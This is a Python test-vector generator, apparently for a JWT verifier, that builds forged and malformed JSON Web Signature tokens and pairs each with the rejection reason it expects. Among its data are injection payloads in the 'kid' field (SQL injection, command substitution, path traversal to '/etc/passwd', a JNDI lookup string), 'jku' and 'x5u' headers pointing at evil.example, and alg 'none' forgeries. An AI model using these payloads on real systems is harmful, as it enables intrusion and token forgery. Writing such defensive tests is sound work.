"""Hostile tokens, each with what must become of it.

The classes are those that Project Wycheproof's vectors for JSON Web Signature have, and some more; the tokens
are made here, from keys of our own.

Those of `altered` come from a genuine token, as a thief or forger would make them; those of `signed` need the
private key, and show what a token with a valid signature may hold.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Final

from sidecar.core.errors import Reason

MALFORMED: Final = Reason.TOKEN_MALFORMED
SIGNATURE: Final = Reason.TOKEN_SIGNATURE_INVALID
ALGORITHM: Final = Reason.TOKEN_ALGORITHM_REFUSED
UNKNOWN: Final = Reason.TOKEN_KEY_UNKNOWN
FIELD: Final = Reason.INVALID_FIELD
"""The contract itself bounds the length of the field, before there is a token."""

MAX_TOKEN_BYTES: Final = 16_384


@dataclass(frozen=True, slots=True, kw_only=True)
class Vector:
    """A token, and the reasons for which it may be refused; None when it must hold."""

    name: str
    token: str
    verdict: frozenset[Reason] | None


def refused(name: str, token: str, *reasons: Reason) -> Vector:
    """A token that must not hold."""
    return Vector(name=name, token=token, verdict=frozenset(reasons))


def accepted(name: str, token: str) -> Vector:
    """A token that holds, odd as it may look."""
    return Vector(name=name, token=token, verdict=None)


def encode(content: Any) -> str:
    """One part of a token: bytes as they are, anything else as JSON."""
    octets = content if isinstance(content, bytes) else json.dumps(content).encode()
    return base64.urlsafe_b64encode(octets).rstrip(b"=").decode()


def decode(part: str) -> bytes:
    """The bytes of one part."""
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


@dataclass(frozen=True, slots=True, kw_only=True)
class Parts:
    """A token in its parts."""

    header: str
    payload: str
    signature: str

    @classmethod
    def of(cls, token: str) -> Parts:
        """The parts of a compact token."""
        header, payload, signature = token.split(".")
        return cls(header=header, payload=payload, signature=signature)

    @property
    def fields(self) -> dict[str, Any]:
        """What the header holds."""
        found: dict[str, Any] = json.loads(decode(self.header))
        return found

    def with_signature(self, octets: bytes) -> str:
        """The token with another signature."""
        return f"{self.header}.{self.payload}.{encode(octets)}"

    def with_header(self, header: Any) -> str:
        """The token with another header, its signature kept."""
        return f"{encode(header)}.{self.payload}.{self.signature}"


def altered(token: str) -> Iterator[Vector]:
    """What anybody can make of a genuine token without the key."""
    parts = Parts.of(token)
    yield accepted("unchanged", token)
    yield from _structure(token, parts)
    yield from _alphabet(parts)
    yield from _contents(parts)
    yield from _header_json(parts)


def _structure(token: str, parts: Parts) -> Iterator[Vector]:
    header, payload, signature = parts.header, parts.payload, parts.signature
    yield refused("empty", "", FIELD)
    yield refused("no signature", f"{header}.{payload}.", SIGNATURE, MALFORMED)
    for name, text in {
        "no signature and no dot": f"{header}.{payload}",
        "no payload and no dot": f"{header}.{signature}",
        "no header and no dot": f"{payload}.{signature}",
        "header alone": header,
        "dot": ".",
        "two dots": "..",
        "three dots": "...",
        "an empty part more": f"{token}.",
        "a part more": f"{token}.{signature}",
        "a part before": f".{token}",
        "five parts, as an encrypted one": f"{token}.{signature}.{signature}",
        "JSON serialization": json.dumps(
            {"protected": header, "payload": payload, "signature": signature}, separators=(",", ":")
        ),
        "JSON serialization with an array": json.dumps(
            {"payload": payload, "signatures": [{"protected": header, "signature": signature}]}
        ),
        "a scheme before": f"Bearer {token}",
        "quoted": f'"{token}"',
        "twice": f"{token},{token}",
        "space before": f" {token}",
        "NUL behind": f"{token}\0",
        "byte order mark before": f"\ufeff{token}",
        "full-width dots": token.replace(".", "\uff0e"),
        "percent-encoded dots": token.replace(".", "%2E"),
        "text that is no ASCII": "é.é.é",
    }.items():
        yield refused(name, text, MALFORMED)
    yield refused("no payload", f"{header}..{signature}", SIGNATURE)
    yield refused("no header", f".{payload}.{signature}", MALFORMED)
    yield refused("parts swapped", f"{payload}.{header}.{signature}", MALFORMED)
    longest = MAX_TOKEN_BYTES - len(f"{header}.{payload}.")
    yield refused("as long as can be", f"{header}.{payload}.{'A' * (longest // 4 * 4)}", SIGNATURE, MALFORMED)
    yield refused("too long by one", "A" * (MAX_TOKEN_BYTES + 1), FIELD)
    yield refused("much too long", f"{token}{'A' * 2_000_000}", FIELD)
    yield refused("dots alone, as long as can be", "." * MAX_TOKEN_BYTES, MALFORMED)


def _alphabet(parts: Parts) -> Iterator[Vector]:
    """base64url has no padding, no white space and no other characters (RFC 7515 section 2)."""
    for at, name in enumerate(("header", "payload", "signature")):
        for trick, change in {
            "padding": lambda text: text + "=" * (-len(text) % 4 or 4),
            "one = behind": lambda text: text + "=",
            "= inside": lambda text: text[:8] + "=" + text[8:],
            "space inside": lambda text: text[:8] + " " + text[8:],
            "line feed inside": lambda text: text[:8] + "\n" + text[8:],
            "CR LF behind": lambda text: text + "\r\n",
            "NUL inside": lambda text: text[:8] + "\0" + text[8:],
            "exclamation mark inside": lambda text: text[:8] + "!" + text[8:],
            "standard alphabet": lambda text: text[:8] + "+/" + text[10:],
            "percent escape": lambda text: f"%{ord(text[0]):02X}" + text[1:],
            "one character less": lambda text: text[:-1],
            "two characters less": lambda text: text[:-2],
            "one character more": lambda text: text + "A",
            "four characters more": lambda text: text + "AAAA",
            "all capitals": str.upper,
            "reversed": lambda text: text[::-1],
            "unused bits set": _with_unused_bits,
        }.items():
            texts = [parts.header, parts.payload, parts.signature]
            changed = change(texts[at])
            if changed == texts[at]:
                continue
            texts[at] = changed
            yield refused(f"{name}: {trick}", ".".join(texts), MALFORMED, SIGNATURE)


def _with_unused_bits(text: str) -> str:
    """Another last character that stands for the same bytes, where there is one."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return text[:-1] + alphabet[alphabet.index(text[-1]) | 1] if len(text) % 4 else text


def _contents(parts: Parts) -> Iterator[Vector]:
    """Claims and header fields changed under the old signature."""
    claims: dict[str, Any] = json.loads(decode(parts.payload))
    for name, change in {
        "another subject": {"sub": "root"},
        "another tenant": {"tenant_id": "globex"},
        "longer": {"exp": claims["exp"] + 3600},
        "another issuer": {"iss": "https://evil.example"},
        "another audience": {"aud": "everybody"},
    }.items():
        yield refused(
            f"payload: {name}", f"{parts.header}.{encode(claims | change)}.{parts.signature}", SIGNATURE
        )
    for content in (b"", b"null", b"[]", b"{}", b"{", b"\xff\xfe", b"[" * 3000):
        yield refused(
            f"payload: {content[:8]!r}", f"{parts.header}.{encode(content)}.{parts.signature}", SIGNATURE
        )
    fields = parts.fields
    alg, kid = fields["alg"], fields["kid"]
    for wrong in (
        *("none", "None", "NONE", "nOnE"),
        *("HS256", "HS384", "HS512", "RS384", "RS512", "PS256", "ES384", "ES512", "ES256K", "EdDSA"),
        *("RSA-OAEP", "dir", "A128GCM", "RS256" if alg == "ES256" else "ES256"),
        *(alg.lower(), f"{alg} ", f" {alg}", f"{alg}\0", f"{alg}\n", "", "*", "../ES256", "\uff25\uff33256"),
    ):
        yield refused(f"alg: {wrong!r}", parts.with_header(fields | {"alg": wrong}), ALGORITHM)
        bare = f"{encode(fields | {'alg': wrong})}.{parts.payload}."
        yield refused(f"alg: {wrong!r}, no signature", bare, ALGORITHM)
    for wrong in (None, 256, True, [alg], {"alg": alg}):
        yield refused(f"alg: {wrong!r}", parts.with_header(fields | {"alg": wrong}), MALFORMED)
    yield refused("alg: missing", parts.with_header({"kid": kid}), MALFORMED)
    for wrong in (
        *(None, 7, True, [kid], {"kid": kid}, "", " ", f"{kid} ", f"{kid}\0", kid.lower() + "x", kid[:-1]),
        *("../../../../dev/null", "/dev/null", "/proc/self/environ", "file:///etc/passwd", "C:\\boot.ini"),
        *("' OR '1'='1", "x' UNION SELECT 'secret' --", 'key"; DROP TABLE keys; --', "$(id)", "|id", "`id`"),
        *("https://evil.example/key", "//evil.example", "%00", "\ud800", "\u0000", "__proto__", "0", "*"),
        *("k" * 10_000, "é" * 500, "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>"),
    ):
        yield refused(f"kid: {str(wrong)[:40]!r}", parts.with_header(fields | {"kid": wrong}), UNKNOWN)
    yield refused("kid: missing", parts.with_header({"alg": alg}), UNKNOWN)
    for name, extra in {
        "jku": "https://evil.example/jwks.json",
        "x5u": "https://evil.example/cert.pem",
        "x5c": ["MIIB"],
        "x5t": "AAAA",
        "jwk": {"kty": "oct", "k": "AAAA"},
        "cty": "JWT",
        "zip": "DEF",
        "enc": "A128GCM",
        "b64": True,
        "typ": "dpop+jwt",
    }.items():
        yield refused(f"{name} added", parts.with_header(fields | {name: extra}), SIGNATURE)
    yield refused("b64 false", parts.with_header(fields | {"b64": False}), MALFORMED, SIGNATURE)
    detached = f"{encode(fields | {'b64': False})}..{parts.signature}"
    yield refused("b64 false, detached", detached, MALFORMED, SIGNATURE)
    for critical in (["exp"], ["b64"], ["x"], [], [""], ["alg", "alg"], "b64", None, 7, {"b64": True}):
        yield refused(f"crit: {critical!r}", parts.with_header(fields | {"crit": critical}), MALFORMED)


def _header_json(parts: Parts) -> Iterator[Vector]:
    """Headers that are no JSON object, or an odd one."""
    fields = parts.fields
    alg, kid = fields["alg"], fields["kid"]
    for name, content in {
        "nothing": b"",
        "null": b"null",
        "number": b"7",
        "text": b'"ES256"',
        "array": json.dumps([fields]).encode(),
        "no end": json.dumps(fields).encode()[:-1],
        "something behind": json.dumps(fields).encode() + b"x",
        "two objects": json.dumps(fields).encode() * 2,
        "trailing comma": json.dumps(fields).encode()[:-1] + b",}",
        "single quotes": json.dumps(fields).replace('"', "'").encode(),
        "comment": b"/**/" + json.dumps(fields).encode(),
        "not UTF-8": json.dumps(fields).encode()[:-1] + b',"a":"\xff"}',
        "overlong UTF-8": json.dumps(fields).encode()[:-1] + b',"a":"\xc0\x80"}',
        "arrays without end": b"[" * 10_000,
        "objects without end": b'{"a":' * 2_000,
        "deep array": b'{"a":' + b"[" * 5_000 + b"]" * 5_000 + b"}",
        "number with ten thousand digits": b'{"a":' + b"9" * 10_000 + b"}",
        "control character": json.dumps(fields).encode()[:-1] + b',"a":"\x01"}',
    }.items():
        yield refused(f"header: {name}", parts.with_header(content), MALFORMED)
    # Python reads these for what they say; the signature is another's all the same.
    for name, content in {
        "byte order mark": b"\xef\xbb\xbf" + json.dumps(fields).encode(),
        "encoded surrogate": json.dumps(fields).encode()[:-1] + b',"a":"\xed\xa0\x80"}',
    }.items():
        yield refused(f"header: {name}", parts.with_header(content), SIGNATURE, MALFORMED)
    for name, content, reason in (
        ("alg none last", f'{{"alg":"{alg}","kid":"{kid}","alg":"none"}}', ALGORITHM),
        ("alg none first", f'{{"alg":"none","alg":"{alg}","kid":"{kid}"}}', SIGNATURE),
        ("kid twice", f'{{"alg":"{alg}","kid":"{kid}","kid":"x"}}', UNKNOWN),
        ("kid twice, ours last", f'{{"alg":"{alg}","kid":"x","kid":"{kid}"}}', SIGNATURE),
        ("escaped name", f'{{"\\u0061lg":"none","kid":"{kid}"}}', ALGORITHM),
        ("capitals", f'{{"ALG":"{alg}","KID":"{kid}"}}', MALFORMED),
        ("escaped crit", f'{{"alg":"{alg}","kid":"{kid}","\\u0063rit":["x"]}}', MALFORMED),
        ("white space", f' {{ "alg" : "{alg}" ,\n"kid":\t"{kid}" }} ', SIGNATURE),
    ):
        yield refused(f"header: {name}", parts.with_header(content.encode()), reason, MALFORMED)
    deep: Any = 1
    for _ in range(300):
        deep = [deep]
    yield refused(
        "header: three hundred arrays", parts.with_header(fields | {"a": deep}), SIGNATURE, MALFORMED
    )
